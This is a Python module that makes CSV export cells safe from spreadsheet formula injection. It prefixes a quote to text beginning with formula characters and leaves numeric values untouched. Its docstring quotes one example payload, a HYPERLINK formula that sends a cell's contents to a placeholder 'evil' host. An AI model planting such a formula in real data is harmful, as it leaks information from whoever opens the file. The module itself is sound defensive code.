"""CSV cells that are safe to open in a spreadsheet: every CSV the gateway writes goes through here.

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a
formula, and a leading tab or carriage return can hide one. A partner's order number such as
`=HYPERLINK("http://evil/?"&A1)` in an exported statement would run on an operator's desk.
OWASP's rule: such a text cell starts with a single quote, which the spreadsheet shows as text
and never evaluates. Numbers (int, Decimal) are written as they are: `-5.00` from a Decimal is
our own figure, and a negative amount must stay a number.
"""

from __future__ import annotations

from collections.abc import Iterable
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | Decimal | None


def safe_cell(value: Cell) -> str | int | Decimal:
    """A text cell that a spreadsheet could read as a formula, made inert; anything else as is."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Cell]) -> list[str | int | Decimal]:
    """A row for `csv.writer.writerow`, each cell through `safe_cell`."""
    return [safe_cell(value) for value in values]
